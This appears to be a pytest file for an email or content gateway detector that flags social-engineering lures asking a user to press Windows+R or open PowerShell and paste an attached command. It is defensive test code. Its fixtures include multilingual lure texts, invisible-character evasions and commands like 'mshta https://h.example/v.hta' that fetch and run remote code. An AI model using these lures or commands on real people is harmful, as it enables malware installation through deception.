"""A request in one text of a message, the command in another."""

from __future__ import annotations

import pytest

from gateway.detect.apart import MOST, SHORT, Apart, speaks_of_commands
from gateway.detect.base import Scope, Tally
from gateway.detect.yara_rules import YaraDetector
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Sample, Text
from gateway.model.transaction import Direction

KEYS = "Dear Bob,\n\npress Windows + R, paste the line of the attached note and press Enter.\n"
COMMAND = "mshta https://h.example/v.hta # Ref 77\r\n"


def node(number: int, data: bytes, type: str = "text/plain", *texts: Text) -> Sample:
    return Sample(Artifact(number, 0, ArtifactKind.PART, detected_type=type), data, list(texts))


def found(*samples: Sample, direction: Direction = Direction.INBOUND) -> list[tuple[str, int]]:
    detector = YaraDetector(Scope(direction, "", (), ()))
    seen = [f for sample in samples for f in detector.look(sample)]
    return [(f.rule, f.artifact) for f in (*seen, *detector.conclude(Tally()))]


def test_a_mail_that_names_the_keys_of_an_attached_command() -> None:
    assert found(node(1, KEYS.encode()), node(2, COMMAND.encode())) == [("run-dialog-command", 2)]
    assert found(node(1, COMMAND.encode()), node(2, KEYS.encode())) == [("run-dialog-command", 1)]


def test_steps_in_a_document_or_page() -> None:
    steps = node(1, b"%PDF-1.7", "application/pdf", Text(KEYS, "page 1"))
    assert found(steps, node(2, COMMAND.encode())) == [("run-dialog-command", 2)]
    page = node(1, b"<p>", "text/html", Text("Open Windows Terminal and run what the file says.", "body", "utf-8"))
    assert found(page, node(2, COMMAND.encode())) == [("shell-command-asked", 2)]


def test_steps_in_a_name_or_subject() -> None:
    named = Sample(Artifact(1, 0, ArtifactKind.PART, ("Press Windows+R then Ctrl+V.txt",), detected_type="text/plain"), COMMAND.encode())
    assert found(named) == [("run-dialog-command", 1)]
    mail = node(1, b"Subject: x\r\n\r\n", "message/rfc822", Text("Press Windows + R and paste the code", "header Subject"))
    assert found(mail, node(2, COMMAND.encode())) == [("run-dialog-command", 2)]


@pytest.mark.parametrize(("request_", "rule"), [
    ("Hit the Windows key and R, then drop the attached key into the box.", "run-dialog-command"),
    ("Bitte öffnen Sie PowerShell und führen Sie den Befehl in der Anlage aus.", "shell-command-asked"),
    ("Aprire PowerShell ed eseguire il comando allegato.", "shell-command-asked"), ("請以系統管理員身分開啟 PowerShell，執行附件指令。", "shell-command-asked"), ("명령 프롬프트를 열고 첨부된 명령을 복사하세요.", "run-dialog-command"),
])
def test_requests_in_other_words(request_: str, rule: str) -> None:
    assert rule in {name for name, _ in found(node(1, request_.encode()), node(2, COMMAND.encode()))}


def test_one_node_that_says_both_is_told_once() -> None:
    assert found(node(1, (KEYS + COMMAND).encode()), node(2, COMMAND.encode())) == [("run-dialog-command", 1)]


@pytest.mark.parametrize(("one", "other"), [
    ("press Win + R, type services.msc.", "11-16 cmd /c net start spooler: ok\r\n11-16 curl https://status.h.example 200"),
    ("IOC list: users press Windows + R and paste it.", COMMAND), (KEYS, "ipconfig /all > %USERPROFILE%\\net.txt"), ("Attached is the command our monitoring flagged. Press Windows + R to search.", COMMAND),
    ("Windows + V opens the clipboard history.", COMMAND), (KEYS, "Alpha\r\nBeta"), (KEYS + "x" * SHORT, COMMAND), (KEYS, COMMAND + "x" * SHORT),
])
def test_what_asks_for_nothing(one: str, other: str) -> None:
    assert found(node(1, one.encode()), node(2, other.encode())) == []


def test_of_outbound_mail_nothing_is_kept() -> None:
    assert found(node(1, KEYS.encode()), node(2, COMMAND.encode()), direction=Direction.OUTBOUND) == []


def test_sets_of_scripts_are_no_request() -> None:
    apart = Apart()
    assert apart.together() == (0, b"")
    apart.add(1, [KEYS.encode()])
    for number in range(MOST):
        apart.add(number + 2, [COMMAND.encode() + str(number).encode()])
    assert apart.together()[0] == MOST + 1
    apart.add(99, [b"curl x"])
    assert apart.together() == (0, b"")


def test_names_of_programs() -> None:
    assert speaks_of_commands(b"Run PowerShell") and not speaks_of_commands(b"the firm confirms")


def test_words_of_a_page_are_read_without_its_tags() -> None:
    text = "To read the message, open Windows Terminal and execute the following command:\nmsiexec /package http://h.example/v.msi /quiet"
    markup = text.replace("Windows", "<kbd>Windows</kbd>").encode()
    assert found(node(1, markup, "text/html", Text(text, "body", "utf-8"))) == [("shell-command-asked", 1)]
    assert found(node(1, markup, "text/html", Text(text, "hidden", "utf-8", hidden=True))) == []


def test_invisible_characters_part_no_words() -> None:
    text = "Press Win\u200bdows + R, pa\u00adste: mshta https://h.example/v.hta"
    assert found(node(1, b"%PDF-1.7", "application/pdf", Text(text, "page 1"))) == [("run-dialog-command", 1)]
    written = node(1, text.encode(), "text/plain", Text(text, "body", "utf-8"))
    assert found(written) == [("run-dialog-command", 1)]
    apart = node(1, "Press Win\u200bdows + R, paste the attached line.".encode("utf-16"), "text/plain",
                 Text("Press Win\u200bdows + R, paste the attached line.", "body", "utf-16"))
    assert ("run-dialog-command", 2) in found(apart, node(2, COMMAND.encode()))
